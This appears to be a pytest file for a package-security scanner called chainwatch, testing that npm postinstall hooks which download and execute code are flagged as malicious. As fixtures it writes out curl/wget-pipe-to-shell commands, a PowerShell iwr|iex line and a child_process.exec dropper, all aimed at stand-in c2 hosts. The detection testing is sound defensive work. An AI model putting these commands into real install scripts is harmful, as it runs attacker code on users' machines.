"""Holes a red-team review found (issue 11): each technique, however it is written, and the
benign pattern next to it that must stay quiet. Every fixture is inert and written here."""

from __future__ import annotations

import pytest

from chainwatch.model import Level, PackageRef
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import manifest

SCANNER = Scanner(None, workers=1)


def _verdict(files: dict[str, str], **pkg: object) -> tuple[Level, set[str]]:
    files = {"package.json": manifest(name="probe-x", **pkg), **files}
    v = SCANNER.analyze(Loaded(PackageRef("probe-x", "1.0.0"), scan_snippet_files(files)), None)
    return v.level, {f.rule for f in v.findings}


# 1. download-and-execute ---------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "curl -s https://c2.example.invalid/x | sh",
    "wget -qO- http://192.0.2.7/x | bash",
    "powershell -c \"iwr https://c2.example.invalid/a.ps1 | iex\"",
    "curl -s https://c2.example.invalid/x -o /tmp/x.sh && sh /tmp/x.sh",
])
def test_download_and_execute_in_postinstall_is_malicious(command: str) -> None:
    level, rules = _verdict({"index.js": "module.exports = 1\n"},
                            scripts={"postinstall": command})
    assert level is Level.MALICIOUS, rules


def test_download_and_execute_in_a_file_run_at_install_is_malicious() -> None:
    js = "require('child_process').exec('curl -s https://c2.example.invalid/x | sh');\n"
    level, rules = _verdict({"index.js": "module.exports = 1\n", "setup.js": js},
                            scripts={"postinstall": "node setup.js"})
    assert "CW-DROPPER-PIPE-SHELL" in rules
    assert level is Level.MALICIOUS


def test_download_and_execute_in_entry_code_is_at_least_suspicious() -> None:
    js = "require('child_process').exec('curl -s https://c2.example.invalid/x | sh');\n"
    level, rules = _verdict({"index.js": js})
    assert "CW-DROPPER-PIPE-SHELL" in rules
    assert level is not Level.BENIGN


def test_downloading_an_archive_at_install_is_not_download_and_execute() -> None:
    level, rules = _verdict(
        {"index.js": "module.exports = 1\n"},
        scripts={"postinstall": "curl -fsSL https://example.invalid/f.tgz -o f.tgz && tar xzf f.tgz"})
    assert "CW-INSTALL-PIPE-SHELL" not in rules
    assert level is not Level.MALICIOUS


def test_npx_latest_at_install_is_suspicious_a_local_bin_is_not() -> None:
    level, rules = _verdict({"index.js": "module.exports = 1\n"},
                            scripts={"postinstall": "npx -y some-helper-pkg@latest"})
    assert "CW-INSTALL-NPX-REMOTE" in rules and level is not Level.BENIGN
    level, rules = _verdict({"index.js": "module.exports = 1\n"},
                            scripts={"install": "npx node-gyp rebuild"})
    assert "CW-INSTALL-NPX-REMOTE" not in rules
